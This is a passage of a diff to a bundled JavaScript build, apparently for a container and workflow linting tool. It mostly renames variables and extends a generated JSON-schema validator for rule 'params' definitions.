@@ -4603,7 +4603,7 @@ var require_util2 = __commonJS({
           writable: true,
           enumerable: true,
           configurable: true,
-          value: function entries() {
+          value: function entries2() {
             webidl.brandCheck(this, object);
             return makeIterator(this, "key+value");
           }
@@ -4869,8 +4869,8 @@ var require_util2 = __commonJS({
       }
       return values;
     }
-    function getDecodeSplit(name, list2) {
-      const value = list2.get(name, true);
+    function getDecodeSplit(name, list3) {
+      const value = list3.get(name, true);
       if (value === null) {
         return null;
       }
@@ -5671,9 +5671,9 @@ Content-Type: ${value.type || "application/octet-stream"}\r
                   return fd;
                 }
                 case "application/x-www-form-urlencoded": {
-                  const entries = new URLSearchParams(value.toString());
+                  const entries2 = new URLSearchParams(value.toString());
                   const fd = new FormData();
-                  for (const [name, value2] of entries) {
+                  for (const [name, value2] of entries2) {
                     fd.append(name, value2);
                   }
                   return fd;
@@ -10719,11 +10719,11 @@ var require_mock_utils = __commonJS({
     }
     function buildHeadersFromArray(headers) {
       const clone = headers.slice();
-      const entries = [];
+      const entries2 = [];
       for (let index = 0; index < clone.length; index += 2) {
-        entries.push([clone[index], clone[index + 1]]);
+        entries2.push([clone[index], clone[index + 1]]);
       }
-      return Object.fromEntries(entries);
+      return Object.fromEntries(entries2);
     }
     function matchHeaders(mockDispatch2, headers) {
       if (typeof mockDispatch2.headers === "function") {
@@ -12282,9 +12282,9 @@ var require_headers = __commonJS({
       // https://fetch.spec.whatwg.org/#dom-headers-getsetcookie
       getSetCookie() {
         webidl.brandCheck(this, _Headers);
-        const list2 = this.#headersList.cookies;
-        if (list2) {
-          return [...list2];
+        const list3 = this.#headersList.cookies;
+        if (list3) {
+          return [...list3];
         }
         return [];
       }
@@ -12324,8 +12324,8 @@ var require_headers = __commonJS({
       static getHeadersList(o) {
         return o.#headersList;
       }
-      static setHeadersList(o, list2) {
-        o.#headersList = list2;
+      static setHeadersList(o, list3) {
+        o.#headersList = list3;
       }
     };
     var { getHeadersGuard, setHeadersGuard, getHeadersList, setHeadersList } = Headers2;
@@ -13293,13 +13293,13 @@ var require_request2 = __commonJS({
         if (this.signal.aborted) {
           ac.abort(this.signal.reason);
         } else {
-          let list2 = dependentControllerMap.get(this.signal);
-          if (list2 === void 0) {
-            list2 = /* @__PURE__ */ new Set();
-            dependentControllerMap.set(this.signal, list2);
+          let list3 = dependentControllerMap.get(this.signal);
+          if (list3 === void 0) {
+            list3 = /* @__PURE__ */ new Set();
+            dependentControllerMap.set(this.signal, list3);
           }
           const acRef = new WeakRef(ac);
-          list2.add(acRef);
+          list3.add(acRef);
           util.addAbortListener(
             ac.signal,
             buildAbort(acRef)
@@ -33206,15 +33206,15 @@ var require_parser = __commonJS({
     var node_process = __require("process");
     var cst = require_cst();
     var lexer = require_lexer();
-    function includesToken(list2, type) {
-      for (let i = 0; i < list2.length; ++i)
-        if (list2[i].type === type)
+    function includesToken(list3, type) {
+      for (let i = 0; i < list3.length; ++i)
+        if (list3[i].type === type)
           return true;
       return false;
     }
-    function findNonEmptyIndex(list2) {
-      for (let i = 0; i < list2.length; ++i) {
-        switch (list2[i].type) {
+    function findNonEmptyIndex(list3) {
+      for (let i = 0; i < list3.length; ++i) {
+        switch (list3[i].type) {
           case "space":
           case "comment":
           case "newline":
@@ -41523,16 +41523,16 @@ var require_light = __commonJS({
           }
         }
         shiftAll(fn) {
-          return this._lists.forEach(function(list2) {
-            return list2.forEachShift(fn);
+          return this._lists.forEach(function(list3) {
+            return list3.forEachShift(fn);
           });
         }
         getFirst(arr = this._lists) {
-          var j, len, list2;
+          var j, len, list3;
           for (j = 0, len = arr.length; j < len; j++) {
-            list2 = arr[j];
-            if (list2.length > 0) {
-              return list2;
+            list3 = arr[j];
+            if (list3.length > 0) {
+              return list3;
             }
           }
           return [];
@@ -45012,18 +45012,18 @@ async function discover(root, options = {}) {
   const walk2 = async (folder, real) => {
     if (visited.has(real)) return;
     visited.add(real);
-    let entries;
+    let entries2;
     try {
-      entries = await readdir2(folder.absolutePath, { withFileTypes: true });
+      entries2 = await readdir2(folder.absolutePath, { withFileTypes: true });
     } catch (error2) {
       const reason = error2.code ?? String(error2);
       if (folder.path === "") throw error2;
       notices2.push({ level: "warning", path: folder.path, message: `${folder.path} could not be read (${reason}); files in it were not scanned.` });
       return;
     }
-    entries.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
-    const ignores = await withGitignore(folder, entries);
-    for (const entry of entries) {
+    entries2.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
+    const ignores = await withGitignore(folder, entries2);
+    for (const entry of entries2) {
       if (SKIPPED_FOLDERS.has(entry.name)) continue;
       const path6 = folder.path === "" ? entry.name : `${folder.path}/${entry.name}`;
       const absolutePath = join3(folder.absolutePath, entry.name);
@@ -45085,8 +45085,8 @@ async function discover(root, options = {}) {
   notices2.sort((a, b) => (a.path ?? "") < (b.path ?? "") ? -1 : (a.path ?? "") > (b.path ?? "") ? 1 : 0);
   return { files, notices: notices2 };
 }
-async function withGitignore(folder, entries) {
-  if (!entries.some((entry) => entry.name === ".gitignore" && entry.isFile())) return folder.ignores;
+async function withGitignore(folder, entries2) {
+  if (!entries2.some((entry) => entry.name === ".gitignore" && entry.isFile())) return folder.ignores;
   const text2 = await readFile(join3(folder.absolutePath, ".gitignore"), "utf8");
   return [...folder.ignores, { base: folder.path, rules: parseGitignore(text2) }];
 }
@@ -54714,12 +54714,13 @@ function validate105(data, { instancePath = "", parentData, parentDataProperty, 
 }
 validate105.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
 var v86 = validate106;
-var schema119 = { "$id": "https://containment.dev/schemas/rule.json", "type": "object", "additionalProperties": false, "required": ["id", "title", "severity", "subject", "schema", "message", "rationale", "remediation", "references", "tests"], "properties": { "id": { "type": "string", "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$" }, "title": { "type": "string", "minLength": 1 }, "severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "subject": { "enum": ["container", "image", "command", "dockerfile", "dockerfile.stage", "compose", "workflow", "workflow.job", "workflow.step", "action-ref"] }, "when": { "type": "object" }, "schema": { "type": "object" }, "message": { "type": "string", "minLength": 1 }, "rationale": { "type": "string", "minLength": 1 }, "remediation": { "type": "string", "minLength": 1 }, "references": { "type": "array", "minItems": 1, "items": { "type": "object", "minProperties": 1, "maxProperties": 1, "additionalProperties": false, "properties": { "cis-docker": { "type": "string", "pattern": "^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$" }, "owasp-docker": { "type": "string", "pattern": "^RULE #\\d+[a-z]?$" }, "docker-build-check": { "type": "string", "pattern": "^[A-Za-z]+$" }, "url": { "type": "string", "pattern": "^https://" } } } }, "params": { "type": "object" }, "tests": { "type": "array", "minItems": 2, "items": { "type": "object", "additionalProperties": false, "required": ["file", "content", "expect"], "properties": { "file": { "type": "string", "minLength": 1 }, "content": { "type": "string" }, "files": { "type": "object", "additionalProperties": { "type": "string" } }, "expect": { "type": "array", "items": { "type": "object", "additionalProperties": false, "required": ["line", "column"], "properties": { "line": { "type": "integer", "minimum": 1 }, "column": { "type": "integer", "minimum": 1 }, "endLine": { "type": "integer", "minimum": 1 }, "endColumn": { "type": "integer", "minimum": 1 } } } } } } } } };
+var schema119 = { "$id": "https://containment.dev/schemas/rule.json", "type": "object", "additionalProperties": false, "required": ["id", "title", "severity", "subject", "schema", "message", "rationale", "remediation", "references", "tests"], "properties": { "id": { "type": "string", "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$" }, "title": { "type": "string", "minLength": 1 }, "severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "subject": { "enum": ["container", "image", "command", "dockerfile", "dockerfile.stage", "compose", "workflow", "workflow.job", "workflow.step", "action-ref"] }, "when": { "type": "object" }, "schema": { "type": "object" }, "message": { "type": "string", "minLength": 1 }, "rationale": { "type": "string", "minLength": 1 }, "remediation": { "type": "string", "minLength": 1 }, "references": { "type": "array", "minItems": 1, "items": { "type": "object", "minProperties": 1, "maxProperties": 1, "additionalProperties": false, "properties": { "cis-docker": { "type": "string", "pattern": "^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$" }, "owasp-docker": { "type": "string", "pattern": "^RULE #\\d+[a-z]?$" }, "docker-build-check": { "type": "string", "pattern": "^[A-Za-z]+$" }, "url": { "type": "string", "pattern": "^https://" } } } }, "params": { "type": "object", "propertyNames": { "pattern": "^[A-Za-z][A-Za-z0-9]*$" }, "additionalProperties": { "type": "object", "additionalProperties": false, "required": ["description", "schema", "default"], "properties": { "description": { "type": "string", "minLength": 1 }, "schema": { "type": "object" }, "default": {} } } }, "tests": { "type": "array", "minItems": 2, "items": { "type": "object", "additionalProperties": false, "required": ["file", "content", "expect"], "properties": { "file": { "type": "string", "minLength": 1 }, "content": { "type": "string" }, "files": { "type": "object", "additionalProperties": { "type": "string" } }, "expect": { "type": "array", "items": { "type": "object", "additionalProperties": false, "required": ["line", "column"], "properties": { "line": { "type": "integer", "minimum": 1 }, "column": { "type": "integer", "minimum": 1 }, "endLine": { "type": "integer", "minimum": 1 }, "endColumn": { "type": "integer", "minimum": 1 } } } } } } } } };
 var func5 = Object.prototype.hasOwnProperty;
 var pattern67 = new RegExp("^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$", "u");
 var pattern68 = new RegExp("^RULE #\\d+[a-z]?$", "u");
 var pattern69 = new RegExp("^[A-Za-z]+$", "u");
 var pattern70 = new RegExp("^https://", "u");
+var pattern71 = new RegExp("^[A-Za-z][A-Za-z0-9]*$", "u");
 function validate106(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   ;
   let vErrors = null;
@@ -55146,34 +55147,36 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
     }
     if (data.params !== void 0) {
       let data15 = data.params;
-      if (!(data15 && typeof data15 == "object" && !Array.isArray(data15))) {
-        const err39 = { instancePath: instancePath + "/params", schemaPath: "#/properties/params/type", keyword: "type", params: { type: "object" }, message: "must be object" };
-        if (vErrors === null) {
-          vErrors = [err39];
-        } else {
-          vErrors.push(err39);
-        }
-        errors++;
-      }
-    }
-    if (data.tests !== void 0) {
-      let data16 = data.tests;
-      if (Array.isArray(data16)) {
-        if (data16.length < 2) {
-          const err40 = { instancePath: instancePath + "/tests", schemaPath: "#/properties/tests/minItems", keyword: "minItems", params: { limit: 2 }, message: "must NOT have fewer than 2 items" };
-          if (vErrors === null) {
-            vErrors = [err40];
-          } else {
-            vErrors.push(err40);
+      if (data15 && typeof data15 == "object" && !Array.isArray(data15)) {
+        for (const key2 in data15) {
+          const _errs33 = errors;
+          if (typeof key2 === "string") {
+            if (!pattern71.test(key2)) {
+              const err39 = { instancePath: instancePath + "/params", schemaPath: "#/properties/params/propertyNames/pattern", keyword: "pattern", params: { pattern: "^[A-Za-z][A-Za-z0-9]*$" }, message: 'must match pattern "^[A-Za-z][A-Za-z0-9]*$"', propertyName: key2 };
+              if (vErrors === null) {
+                vErrors = [err39];
+              } else {
+                vErrors.push(err39);
+              }
+              errors++;
+            }
           }
-          errors++;
+          var valid4 = _errs33 === errors;
+          if (!valid4) {
+            const err40 = { instancePath: instancePath + "/params", schemaPath: "#/properties/params/propertyNames", keyword: "propertyNames", params: { propertyName: key2 }, message: "property name must be valid" };
+            if (vErrors === null) {
+              vErrors = [err40];
+            } else {
+              vErrors.push(err40);
+            }
+            errors++;
+          }
         }
-        const len1 = data16.length;
-        for (let i1 = 0; i1 < len1; i1++) {
-          let data17 = data16[i1];
-          if (data17 && typeof data17 == "object" && !Array.isArray(data17)) {
-            if (data17.file === void 0) {
-              const err41 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/required", keyword: "required", params: { missingProperty: "file" }, message: "must have required property 'file'" };
+        for (const key3 in data15) {
+          let data16 = data15[key3];
+          if (data16 && typeof data16 == "object" && !Array.isArray(data16)) {
+            if (data16.description === void 0) {
+              const err41 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/params/additionalProperties/required", keyword: "required", params: { missingProperty: "description" }, message: "must have required property 'description'" };
               if (vErrors === null) {
                 vErrors = [err41];
               } else {
@@ -55181,8 +55184,8 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
               }
               errors++;
             }
-            if (data17.content === void 0) {
-              const err42 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/required", keyword: "required", params: { missingProperty: "content" }, message: "must have required property 'content'" };
+            if (data16.schema === void 0) {
+              const err42 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/params/additionalProperties/required", keyword: "required", params: { missingProperty: "schema" }, message: "must have required property 'schema'" };
               if (vErrors === null) {
                 vErrors = [err42];
               } else {
@@ -55190,8 +55193,8 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
               }
               errors++;
             }
-            if (data17.expect === void 0) {
-              const err43 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/required", keyword: "required", params: { missingProperty: "expect" }, message: "must have required property 'expect'" };
+            if (data16.default === void 0) {
+              const err43 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/params/additionalProperties/required", keyword: "required", params: { missingProperty: "default" }, message: "must have required property 'default'" };
               if (vErrors === null) {
                 vErrors = [err43];
               } else {
@@ -55199,9 +55202,9 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
               }
               errors++;
             }
-            for (const key2 in data17) {
-              if (!(key2 === "file" || key2 === "content" || key2 === "files" || key2 === "expect")) {
-                const err44 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key2 }, message: "must NOT have additional properties" };
+            for (const key4 in data16) {
+              if (!(key4 === "description" || key4 === "schema" || key4 === "default")) {
+                const err44 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/params/additionalProperties/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key4 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err44];
                 } else {
@@ -55210,11 +55213,11 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
                 errors++;
               }
             }
-            if (data17.file !== void 0) {
-              let data18 = data17.file;
-              if (typeof data18 === "string") {
-                if (func2(data18) < 1) {
-                  const err45 = { instancePath: instancePath + "/tests/" + i1 + "/file", schemaPath: "#/properties/tests/items/properties/file/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
+            if (data16.description !== void 0) {
+              let data17 = data16.description;
+              if (typeof data17 === "string") {
+                if (func2(data17) < 1) {
+                  const err45 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1") + "/description", schemaPath: "#/properties/params/additionalProperties/properties/description/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
                   if (vErrors === null) {
                     vErrors = [err45];
                   } else {
@@ -55223,7 +55226,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
                   errors++;
                 }
               } else {
-                const err46 = { instancePath: instancePath + "/tests/" + i1 + "/file", schemaPath: "#/properties/tests/items/properties/file/type", keyword: "type", params: { type: "string" }, message: "must be string" };
+                const err46 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1") + "/description", schemaPath: "#/properties/params/additionalProperties/properties/description/type", keyword: "type", params: { type: "string" }, message: "must be string" };
                 if (vErrors === null) {
                   vErrors = [err46];
                 } else {
@@ -55232,9 +55235,10 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
                 errors++;
               }
             }
-            if (data17.content !== void 0) {
-              if (typeof data17.content !== "string") {
-                const err47 = { instancePath: instancePath + "/tests/" + i1 + "/content", schemaPath: "#/properties/tests/items/properties/content/type", keyword: "type", params: { type: "string" }, message: "must be string" };
+            if (data16.schema !== void 0) {
+              let data18 = data16.schema;
+              if (!(data18 && typeof data18 == "object" && !Array.isArray(data18))) {
+                const err47 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1") + "/schema", schemaPath: "#/properties/params/additionalProperties/properties/schema/type", keyword: "type", params: { type: "object" }, message: "must be object" };
                 if (vErrors === null) {
                   vErrors = [err47];
                 } else {
@@ -55243,204 +55247,311 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
                 errors++;
               }
             }
-            if (data17.files !== void 0) {
-              let data20 = data17.files;
-              if (data20 && typeof data20 == "object" && !Array.isArray(data20)) {
-                for (const key3 in data20) {
-                  if (typeof data20[key3] !== "string") {
-                    const err48 = { instancePath: instancePath + "/tests/" + i1 + "/files/" + key3.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/tests/items/properties/files/additionalProperties/type", keyword: "type", params: { type: "string" }, message: "must be string" };
+          } else {
+            const err48 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/params/additionalProperties/type", keyword: "type", params: { type: "object" }, message: "must be object" };
+            if (vErrors === null) {
+              vErrors = [err48];
+            } else {
+              vErrors.push(err48);
+            }
+            errors++;
+          }
+        }
+      } else {
+        const err49 = { instancePath: instancePath + "/params", schemaPath: "#/properties/params/type", keyword: "type", params: { type: "object" }, message: "must be object" };
+        if (vErrors === null) {
+          vErrors = [err49];
+        } else {
+          vErrors.push(err49);
+        }
+        errors++;
+      }
+    }
+    if (data.tests !== void 0) {
+      let data19 = data.tests;
+      if (Array.isArray(data19)) {
+        if (data19.length < 2) {
+          const err50 = { instancePath: instancePath + "/tests", schemaPath: "#/properties/tests/minItems", keyword: "minItems", params: { limit: 2 }, message: "must NOT have fewer than 2 items" };
+          if (vErrors === null) {
+            vErrors = [err50];
+          } else {
+            vErrors.push(err50);
+          }
+          errors++;
+        }
+        const len1 = data19.length;
+        for (let i1 = 0; i1 < len1; i1++) {
+          let data20 = data19[i1];
+          if (data20 && typeof data20 == "object" && !Array.isArray(data20)) {
+            if (data20.file === void 0) {
+              const err51 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/required", keyword: "required", params: { missingProperty: "file" }, message: "must have required property 'file'" };
+              if (vErrors === null) {
+                vErrors = [err51];
+              } else {
+                vErrors.push(err51);
+              }
+              errors++;
+            }
+            if (data20.content === void 0) {
+              const err52 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/required", keyword: "required", params: { missingProperty: "content" }, message: "must have required property 'content'" };
+              if (vErrors === null) {
+                vErrors = [err52];
+              } else {
+                vErrors.push(err52);
+              }
+              errors++;
+            }
+            if (data20.expect === void 0) {
+              const err53 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/required", keyword: "required", params: { missingProperty: "expect" }, message: "must have required property 'expect'" };
+              if (vErrors === null) {
+                vErrors = [err53];
+              } else {
+                vErrors.push(err53);
+              }
+              errors++;
+            }
+            for (const key5 in data20) {
+              if (!(key5 === "file" || key5 === "content" || key5 === "files" || key5 === "expect")) {
+                const err54 = { instancePath: instancePath + "/tests/" + i1, schemaPath: "#/properties/tests/items/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key5 }, message: "must NOT have additional properties" };
+                if (vErrors === null) {
+                  vErrors = [err54];
+                } else {
+                  vErrors.push(err54);
+                }
+                errors++;
+              }
+            }
+            if (data20.file !== void 0) {
+              let data21 = data20.file;
+              if (typeof data21 === "string") {
+                if (func2(data21) < 1) {
+                  const err55 = { instancePath: instancePath + "/tests/" + i1 + "/file", schemaPath: "#/properties/tests/items/properties/file/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
+                  if (vErrors === null) {
+                    vErrors = [err55];
+                  } else {
+                    vErrors.push(err55);
+                  }
+                  errors++;
+                }
+              } else {
+                const err56 = { instancePath: instancePath + "/tests/" + i1 + "/file", schemaPath: "#/properties/tests/items/properties/file/type", keyword: "type", params: { type: "string" }, message: "must be string" };
+                if (vErrors === null) {
+                  vErrors = [err56];
+                } else {
+                  vErrors.push(err56);
+                }
+                errors++;
+              }
+            }
+            if (data20.content !== void 0) {
+              if (typeof data20.content !== "string") {
+                const err57 = { instancePath: instancePath + "/tests/" + i1 + "/content", schemaPath: "#/properties/tests/items/properties/content/type", keyword: "type", params: { type: "string" }, message: "must be string" };
+                if (vErrors === null) {
+                  vErrors = [err57];
+                } else {
+                  vErrors.push(err57);
+                }
+                errors++;
+              }
+            }
+            if (data20.files !== void 0) {
+              let data23 = data20.files;
+              if (data23 && typeof data23 == "object" && !Array.isArray(data23)) {
+                for (const key6 in data23) {
+                  if (typeof data23[key6] !== "string") {
+                    const err58 = { instancePath: instancePath + "/tests/" + i1 + "/files/" + key6.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/tests/items/properties/files/additionalProperties/type", keyword: "type", params: { type: "string" }, message: "must be string" };
                     if (vErrors === null) {
-                      vErrors = [err48];
+                      vErrors = [err58];
                     } else {
-                      vErrors.push(err48);
+                      vErrors.push(err58);
                     }
                     errors++;
                   }
                 }
               } else {
-                const err49 = { instancePath: instancePath + "/tests/" + i1 + "/files", schemaPath: "#/properties/tests/items/properties/files/type", keyword: "type", params: { type: "object" }, message: "must be object" };
+                const err59 = { instancePath: instancePath + "/tests/" + i1 + "/files", schemaPath: "#/properties/tests/items/properties/files/type", keyword: "type", params: { type: "object" }, message: "must be object" };
                 if (vErrors === null) {
-                  vErrors = [err49];
+                  vErrors = [err59];
                 } else {
-                  vErrors.push(err49);
+                  vErrors.push(err59);
                 }
                 errors++;
               }
             }
-            if (data17.expect !== void 0) {
-              let data22 = data17.expect;
-              if (Array.isArray(data22)) {
-                const len2 = data22.length;
+            if (data20.expect !== void 0) {
+              let data25 = data20.expect;
+              if (Array.isArray(data25)) {
+                const len2 = data25.length;
                 for (let i2 = 0; i2 < len2; i2++) {
-                  let data23 = data22[i2];
-                  if (data23 && typeof data23 == "object" && !Array.isArray(data23)) {
-                    if (data23.line === void 0) {
-                      const err50 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/required", keyword: "required", params: { missingProperty: "line" }, message: "must have required property 'line'" };
+                  let data26 = data25[i2];
+                  if (data26 && typeof data26 == "object" && !Array.isArray(data26)) {
+                    if (data26.line === void 0) {
+                      const err60 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/required", keyword: "required", params: { missingProperty: "line" }, message: "must have required property 'line'" };
                       if (vErrors === null) {
-                        vErrors = [err50];
+                        vErrors = [err60];
                       } else {
-                        vErrors.push(err50);
+                        vErrors.push(err60);
                       }
                       errors++;
                     }
-                    if (data23.column === void 0) {
-                      const err51 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/required", keyword: "required", params: { missingProperty: "column" }, message: "must have required property 'column'" };
+                    if (data26.column === void 0) {
+                      const err61 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/required", keyword: "required", params: { missingProperty: "column" }, message: "must have required property 'column'" };
                       if (vErrors === null) {
-                        vErrors = [err51];
+                        vErrors = [err61];
                       } else {
-                        vErrors.push(err51);
+                        vErrors.push(err61);
                       }
                       errors++;
                     }
-                    for (const key4 in data23) {
-                      if (!(key4 === "line" || key4 === "column" || key4 === "endLine" || key4 === "endColumn")) {
-                        const err52 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key4 }, message: "must NOT have additional properties" };
+                    for (const key7 in data26) {
+                      if (!(key7 === "line" || key7 === "column" || key7 === "endLine" || key7 === "endColumn")) {
+                        const err62 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2, schemaPath: "#/properties/tests/items/properties/expect/items/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key7 }, message: "must NOT have additional properties" };
                         if (vErrors === null) {
-                          vErrors = [err52];
+                          vErrors = [err62];
                         } else {
-                          vErrors.push(err52);
+                          vErrors.push(err62);
                         }
                         errors++;
                       }
                     }
-                    if (data23.line !== void 0) {
-                      let data24 = data23.line;
-                      if (!(typeof data24 == "number" && (!(data24 % 1) && !isNaN(data24)))) {
-                        const err53 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/line", schemaPath: "#/properties/tests/items/properties/expect/items/properties/line/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
-                        if (vErrors === null) {
-                          vErrors = [err53];
-                        } else {
-                          vErrors.push(err53);
-                        }
-                        errors++;
-                      }
-                      if (typeof data24 == "number") {
-                        if (data24 < 1 || isNaN(data24)) {
-                          const err54 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/line", schemaPath: "#/properties/tests/items/properties/expect/items/properties/line/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
-                          if (vErrors === null) {
-                            vErrors = [err54];
-                          } else {
-                            vErrors.push(err54);
-                          }
-                          errors++;
-                        }
-                      }
-                    }
-                    if (data23.column !== void 0) {
-                      let data25 = data23.column;
-                      if (!(typeof data25 == "number" && (!(data25 % 1) && !isNaN(data25)))) {
-                        const err55 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/column", schemaPath: "#/properties/tests/items/properties/expect/items/properties/column/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
-                        if (vErrors === null) {
-                          vErrors = [err55];
-                        } else {
-                          vErrors.push(err55);
-                        }
-                        errors++;
-                      }
-                      if (typeof data25 == "number") {
-                        if (data25 < 1 || isNaN(data25)) {
-                          const err56 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/column", schemaPath: "#/properties/tests/items/properties/expect/items/properties/column/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
-                          if (vErrors === null) {
-                            vErrors = [err56];
-                          } else {
-                            vErrors.push(err56);
-                          }
-                          errors++;
-                        }
-                      }
-                    }
-                    if (data23.endLine !== void 0) {
-                      let data26 = data23.endLine;
-                      if (!(typeof data26 == "number" && (!(data26 % 1) && !isNaN(data26)))) {
-                        const err57 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endLine", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endLine/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
-                        if (vErrors === null) {
-                          vErrors = [err57];
-                        } else {
-                          vErrors.push(err57);
-                        }
-                        errors++;
-                      }
-                      if (typeof data26 == "number") {
-                        if (data26 < 1 || isNaN(data26)) {
-                          const err58 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endLine", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endLine/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
-                          if (vErrors === null) {
-                            vErrors = [err58];
-                          } else {
-                            vErrors.push(err58);
-                          }
-                          errors++;
-                        }
-                      }
-                    }
-                    if (data23.endColumn !== void 0) {
-                      let data27 = data23.endColumn;
+                    if (data26.line !== void 0) {
+                      let data27 = data26.line;
                       if (!(typeof data27 == "number" && (!(data27 % 1) && !isNaN(data27)))) {
-                        const err59 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endColumn", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endColumn/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
+                        const err63 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/line", schemaPath: "#/properties/tests/items/properties/expect/items/properties/line/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
                         if (vErrors === null) {
-                          vErrors = [err59];
+                          vErrors = [err63];
                         } else {
-                          vErrors.push(err59);
+                          vErrors.push(err63);
                         }
                         errors++;
                       }
                       if (typeof data27 == "number") {
                         if (data27 < 1 || isNaN(data27)) {
-                          const err60 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/endColumn", schemaPath: "#/properties/tests/items/properties/expect/items/properties/endColumn/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
+                          const err64 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/line", schemaPath: "#/properties/tests/items/properties/expect/items/properties/line/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
                           if (vErrors === null) {
-                            vErrors = [err60];
+                            vErrors = [err64];
                           } else {
-                            vErrors.push(err60);
+                            vErrors.push(err64);
+                          }
+                          errors++;
+                        }
+                      }
+                    }
+                    if (data26.column !== void 0) {
+                      let data28 = data26.column;
+                      if (!(typeof data28 == "number" && (!(data28 % 1) && !isNaN(data28)))) {
+                        const err65 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/column", schemaPath: "#/properties/tests/items/properties/expect/items/properties/column/type", keyword: "type", params: { type: "integer" }, message: "must be integer" };
+                        if (vErrors === null) {
+                          vErrors = [err65];
+                        } else {
+                          vErrors.push(err65);
+                        }
+                        errors++;
+                      }
+                      if (typeof data28 == "number") {
+                        if (data28 < 1 || isNaN(data28)) {
+                          const err66 = { instancePath: instancePath + "/tests/" + i1 + "/expect/" + i2 + "/column", schemaPath: "#/properties/tests/items/properties/expect/items/properties/column/minimum", keyword: "minimum", params: { comparison: ">=", limit: 1 }, message: "must be >= 1" };
